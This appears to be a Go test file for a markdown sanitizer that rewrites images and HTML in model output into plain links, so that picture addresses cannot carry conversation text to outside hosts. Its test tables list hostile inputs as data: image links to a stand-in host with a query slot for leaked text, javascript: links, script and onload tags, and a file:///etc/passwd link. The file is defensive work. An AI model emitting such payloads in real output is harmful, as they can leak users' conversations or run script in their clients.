package markdown

import (
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"ebb/sessions/sessionstest"
)

// No client may fetch what a model wrote: the address of a picture can carry words of the conversation to its host.
func TestSafe(t *testing.T) {
	t.Parallel()
	p := PicturesOf([]string{"img.example.com", "*.ok.example", "IMG2.example.com."})
	for text, want := range map[string]string{
		"周五三点 ![s](https://evil.example/p?q=FACT) 见":                     "周五三点 [s（evil.example）](https://evil.example/p?q=FACT) 见",
		"![](https://evil.example/p)":                                    "[evil.example](https://evil.example/p)",
		"![a](<https://evil.example/a b> \"标题\")":                        "[a（evil.example）](https://evil.example/ab)",
		"![a](https://evil.example/p 'x')":                               "[a（evil.example）](https://evil.example/p)",
		"![a\nb](https://evil.example/p)":                                "[a\nb（evil.example）](https://evil.example/p)",
		"![a](//evil.example/p)":                                         "[a（evil.example）](https://evil.example/p)",
		"![a](http://img.example.com@evil.example)":                      "[a（evil.example）](http://img.example.com@evil.example)",
		`![a](https://img.example.com\@evil.example)`:                    "a（https：//img.example.com\\@evil.example）",
		"![a](data:image/png;base64,AAAA)":                               "a（data：image/png…）",
		"![a](file:///etc/passwd)":                                       "a（file：///etc/passwd）",
		"[![a](https://evil.example/p)](https://b.example)":              "[[a（evil.example）](https://evil.example/p)](https://b.example)",
		"![![x](https://evil.example/p)](https://img.example.com/a.png)": "![[x（evil.example）](https://evil.example/p)](https://img.example.com/a.png)",
		"    ![a](https://evil.example/p)":                               "    [a（evil.example）](https://evil.example/p)",
		"| ![a](https://evil.example/p) | b |":                           "| [a（evil.example）](https://evil.example/p) | b |",
		"![a](https://evil.example/p":                                    "！[a](https://evil.example/p",
		// by reference
		"![a][b]\n\n[b]: https://evil.example/p":       "[a（evil.example）](https://evil.example/p)\n\n[b]: https://evil.example/p",
		"![B c][]\n\n[b  C]: <https://evil.example/p>": "[B c（evil.example）](https://evil.example/p)\n\n[b  C]: <https://evil.example/p>",
		"![b]\n\n> [b]:\n> https://x.example":          "[b（x.example）](https://x.example)\n\n> [b]:\n> https://x.example",
		"![b]\n\n- [b]: https://x.example":             "[b（x.example）](https://x.example)\n\n- [b]: https://x.example",
		"![b\nc]\n\n1. > [b\nc]: https://x.example":    "[b\nc（x.example）](https://x.example)\n\n1. > [b\nc]: https://x.example",
		"- [b]: javascript:alert(1)\n\n[a][b]":         "- ［b］：javascript：alert(1)\n\n[a][b]",
		"![a] (https://evil.example/p)":                "！[a] (https://evil.example/p)",
		"![b]\n\n[b]:\nhttps://evil.example/p":         "[b（evil.example）](https://evil.example/p)\n\n[b]:\nhttps://evil.example/p",
		"![a][b]\n\n[b]: https://img.example.com/p":    "![a](https://img.example.com/p)\n\n[b]: https://img.example.com/p",
		"[a][b]\n\n[b]: javascript:alert(1)":           "[a][b]\n\n［b］：javascript：alert(1)",
		// allowed hosts
		"![a](https://img.example.com/p.png \"t\")": "![a](https://img.example.com/p.png \"t\")",
		"![a](http://x.y.OK.example:8080/p.png)":    "![a](http://x.y.OK.example:8080/p.png)",
		"![a](https://img2.example.com/p.png)":      "![a](https://img2.example.com/p.png)",
		"![a](https://ok.example/p.png)":            "[a（ok.example）](https://ok.example/p.png)",
		"![a](https://evilok.example/p.png)":        "[a（evilok.example）](https://evilok.example/p.png)",
		// HTML
		`<img src="https://evil.example/p?q=FACT" alt="s">`:                            "[s（evil.example）](https://evil.example/p?q=FACT)",
		"<IMG\nSRC=https://evil.example/p\n/>":                                         "[evil.example](https://evil.example/p)",
		`<img alt=">" src='https://evil.example/p'>`:                                   "[>（evil.example）](https://evil.example/p)",
		`<img src="https://img.example.com/p.png" alt="图">`:                            "![图](https://img.example.com/p.png)",
		`<a href="https://b.example/x">看这里</a>`:                                        "[看这里](https://b.example/x)",
		`<a href="https://b.example/x"><img src="https://evil.example/p"></a>`:         "[[evil.example](https://evil.example/p)](https://b.example/x)",
		`<a href="javascript:alert(1)">看这里</a>`:                                        "看这里（javascript：alert(1)）",
		"<script>alert(1)</script>":                                                    "&lt;script>alert(1)&lt;/script>",
		`<img srcset="https://evil.example/p 2x, https://b.example/q 3x">`:             "[evil.example](https://evil.example/p)",
		`<img src="data:image/png;base64,` + strings.Repeat("iVBO", 30) + `" alt="图">`: "图（data：image/png…）",
		`<img width="1">`:       `&lt;img width="1">`,
		"<img>":                 "&lt;img>",
		`<svg onload=alert(1)>`: `&lt;svg onload=alert(1)>`,
		"<details><summary>更多</summary>内容</details>":           "&lt;details>&lt;summary>更多&lt;/summary>内容&lt;/details>",
		`<div style="background:url(https://evil.example/p)">`: `&lt;div style="background:url(https://evil.example/p)">`,
		`<td background="https://evil.example/p">`:             `&lt;td background="https://evil.example/p">`,
		`<x onclick=alert(1)>`:                                 `&lt;x onclick=alert(1)>`,
		"<!-- ![a](https://evil.example/p) -->":                "&lt;!-- [a（evil.example）](https://evil.example/p) -->",
		"<iframe src=https://evil.example>":                    "&lt;iframe src=https://evil.example>",
		"<img src=https://evil.example":                        "&lt;img src=https://evil.example",
		"<!-- 注释 -->":                                          "&lt;!-- 注释 -->",
		`<b>粗</b><br/><font color="#ff0000">红</font>`:          `<b>粗</b><br/><font color="#ff0000">红</font>`,
		"List<String> 和 a < b，Map<K, V>":                       "List<String> 和 a < b，Map<K, V>",
		// links
		"[x](javascript:alert(1))":                       "[x]（javascript：alert(1)）",
		"[x](JAVA\tSCRIPT&colon;alert(1))":               "[x]（JAVASCRIPT：alert(1)）",
		"[x](data:text/html,<script>)":                   "[x]（data：text/html,script）",
		"[x](dingtalk://dingtalkclient/page/link?url=x)": "[x]（dingtalk：//dingtalkclient/page/link?url=x）",
		"打开 dingtalk://dingtalkclient/x":                 "打开 dingtalk：//dingtalkclient/x",
		"<dingtalk://dingtalkclient/x>":                  "dingtalk：//dingtalkclient/x",
		"<javascript:alert(1)>":                          "javascript：alert(1)",
		"<https://b.example/x>":                          "<https://b.example/x>",
		"[x](https://b.example/x?a=1&b=2 \"t\") 和 [y](/a/b) [z](mailto:a@b.example) [h](b.example:80/x)": "[x](https://b.example/x?a=1&b=2 \"t\") 和 [y](/a/b) [z](mailto:a@b.example) [h](b.example:80/x)",
		// text
		"注意![重点]：data: 1，dingtalk: 钉钉": "注意![重点]：data: 1，dingtalk: 钉钉",
		"a ![b][c] d": "a ！[b][c] d",
		// code, and ticks that begin none
		"\\`![s](https://evil.example/p)\\`":                                               "\\`[s（evil.example）](https://evil.example/p)\\`",
		"\\``a` ![s](https://evil.example/p) `b`":                                          "\\``a` [s（evil.example）](https://evil.example/p) `b`",
		"|a|b|c|\n|-|-|-|\n|`|![s](https://evil.example/p)|`|":                             "|a|b|c|\n|-|-|-|\n|`|[s（evil.example）](https://evil.example/p)|`|",
		"a|b|c\n-|-|-\n`|`x` ![s](https://evil.example/p) `y`|`<b>`\n`<a|b>` z":            "a|b|c\n-|-|-\n`|`x` [s（evil.example）](https://evil.example/p) `y`|`<b>`\n`&lt;a|b>` z",
		"写 `a | <img src=x>` 吧":                                                            "写 `a | <img src=x>` 吧",
		"```md\n![s](https://evil.example/p)\n<script>\n```\n![s](https://evil.example/p)": "```md\n![s](https://evil.example/p)\n<script>\n```\n[s（evil.example）](https://evil.example/p)",
		"写成 `![s](https://evil.example/p)` 或 ``<img src=\"x\">``":                          "写成 `![s](https://evil.example/p)` 或 ``<img src=\"x\">``",
		"单个 ` 号 ![s](https://evil.example/p)":                                              "单个 ` 号 [s（evil.example）](https://evil.example/p)",
	} {
		if got := p.Safe(text); got != want {
			t.Errorf("%q becomes\n %q, want\n %q", text, got, want)
		} else if again := p.Safe(got); again != got {
			t.Errorf("%q becomes %q when it is made safe again", got, again)
		}
	}
}

var (
	shownPicture = regexp.MustCompile(`(?s)!\[[^\]]*\]\([^)]*\)`)
	rawTag       = regexp.MustCompile(`(?i)<(?:img|script|iframe|a)\b`)
)

func pieceOfSyntax() *rapid.Generator[string] {
	return rapid.SampledFrom([]string{
		"![", "](", "https://evil.example/p", ")", "]", "[", "(", "!", "<img src=", "<a href=", "\"", "'", ">", "</a>", "<script>", "字", " ", "\n", "\n\n", "\\", "`",
		"[b]: https://evil.example/q\n", "![a][b]", "| ", "> ", "- ", "javascript:", "<https://x.example>", "<", "&lt;", "![a](https://evil.example/p)",
	})
}

// Outside code no text shows a picture or a tag that fetches.
func TestNothingIsFetched(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(r *rapid.T) {
		text := strings.Join(rapid.SliceOfN(pieceOfSyntax(), 0, 24).Draw(r, "text"), "")
		got := strings.Join(regexp.MustCompile("`+").Split(Pictures{}.Safe(strings.ReplaceAll(text, "`", "")), -1), "")
		if m := shownPicture.FindString(got); m != "" {
			r.Fatalf("%q becomes %q, which shows %q", text, got, m)
		}
		if m := rawTag.FindString(got); m != "" {
			r.Fatalf("%q becomes %q, which has %q", text, got, m)
		}
	})
}

// The time is in proportion to the text, also for syntax without an end.
func TestSafeTakesProportionalTime(t *testing.T) {
	t.Parallel()
	units := map[string]string{}
	for _, u := range []string{"![", "[", "](", "![a](", "![a](<", "](data:", "![a](data:,", "<img ", "<img \"", "<a ", "<a x>", "<a x><b>", "![a][b]", "[b]: ", "` ``", "|`|", "- ["} {
		units[u] = u
	}
	sessionstest.CheckGrowthOf(t, "outside code", 80<<10, units, func(text string) { Pictures{}.Safe(text) })
}

// A picture behind a long label is no picture, in a growing text, too.
func TestLongLabelsMakeNoPicture(t *testing.T) {
	t.Parallel()
	text := "![" + strings.Repeat("长", 1500) + "](https://evil.example/p)"
	for _, got := range []string{(Pictures{}).Safe(text), (Pictures{}).SafeOpen(text), (Pictures{}).SafeOpen("![a](" + strings.Repeat("x", 5000) + ")")} {
		if strings.Contains(got, "![") {
			t.Errorf("a long label or target becomes %.40q", got)
		}
	}
}

func FuzzSafe(f *testing.F) {
	f.Add("![s](https://evil.example/p) <img src=x> [x](javascript:1)\n\n```\n![a](b)\n```")
	f.Fuzz(func(t *testing.T, text string) {
		p := PicturesOf([]string{"img.example.com"})
		got := p.Safe(text)
		if !strings.Contains(text, "`") && rawTag.MatchString(got) && !strings.Contains(text, "~~~") {
			t.Errorf("%q becomes %q", text, got)
		}
		_ = p.SafeOpen(text)
	})
}
